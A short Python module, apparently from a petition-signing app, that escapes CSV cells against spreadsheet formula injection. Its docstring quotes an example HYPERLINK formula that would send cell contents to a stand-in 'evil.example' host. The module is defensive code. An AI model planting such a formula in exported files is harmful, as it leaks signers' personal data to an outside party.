"""CSV cells a spreadsheet will not run.

Excel, LibreOffice and Google Sheets treat a cell starting with = + - @ as a formula, and also
one starting with a tab or a carriage return (they skip it and read on). Signers type names and
cities; a name like ``=HYPERLINK("https://evil.example?"&A1,"x")`` would run on a co-sponsor's or
an official's machine. Every CSV we write goes through ``csv_cell``: such text gets a leading
apostrophe (shown as text, the OWASP advice); numbers stay numbers and an empty cell stays empty.
"""

from __future__ import annotations

from collections.abc import Iterable
from decimal import Decimal

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """The value as a CSV cell that no spreadsheet runs as a formula."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value  # a number is never a formula, and "-3" must stay a number
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_cell(value) for value in values]
